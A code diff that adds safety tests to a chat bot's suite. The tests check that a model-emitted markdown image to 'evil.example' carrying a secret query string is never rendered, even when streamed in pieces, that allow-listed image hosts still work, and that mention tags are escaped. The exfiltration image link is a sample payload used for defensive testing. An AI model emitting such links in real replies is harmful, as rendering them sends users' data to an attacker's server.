@@ -425,3 +425,32 @@ class TestSize:
         assert len(connector.bubbles()) == 6
         assert "".join(bubble.text for bubble in connector.bubbles()) == "".join(paragraphs)
         assert all(bubble.has_ai_label for bubble in connector.bubbles())
+
+
+class TestSafety:
+    async def test_no_step_shows_an_image_however_it_is_cut_into_pieces(
+        self, bot: Bot, connector: Connector, model: ModelServer
+    ):
+        image = "![a chart](https://evil.example/?q=secret)"
+        model.speaks("Look: ", 1.5, *[piece for character in image for piece in (character, 0.3)], " Nice?")
+
+        await bot.personal().say("Hi")
+
+        assert len(connector.steps) > 1
+        assert not any("evil.example" in sent.text or "![" in sent.text for sent in connector.sent)
+        assert "a chart" in connector.messages[-1].text
+
+    async def test_an_image_of_an_allowed_host_is_shown(
+        self, environment: dict[str, str], connector: Connector, model: ModelServer
+    ):
+        model.answers("![a chart](https://images.example/chart.png)")
+
+        async with run_bot(environment | {"ALLOWED_IMAGE_HOSTS": "images.example"}, connector) as bot:
+            answer = await bot.personal().ask("Hi")
+
+        assert answer == "![a chart](https://images.example/chart.png)"
+
+    async def test_a_mention_of_the_models_making_is_plain_text(self, bot: Bot, model: ModelServer):
+        model.answers("Ask <at>Everyone</at>.")
+
+        assert await bot.group().ask("Hi") == "Ask &lt;at>Everyone&lt;/at>."
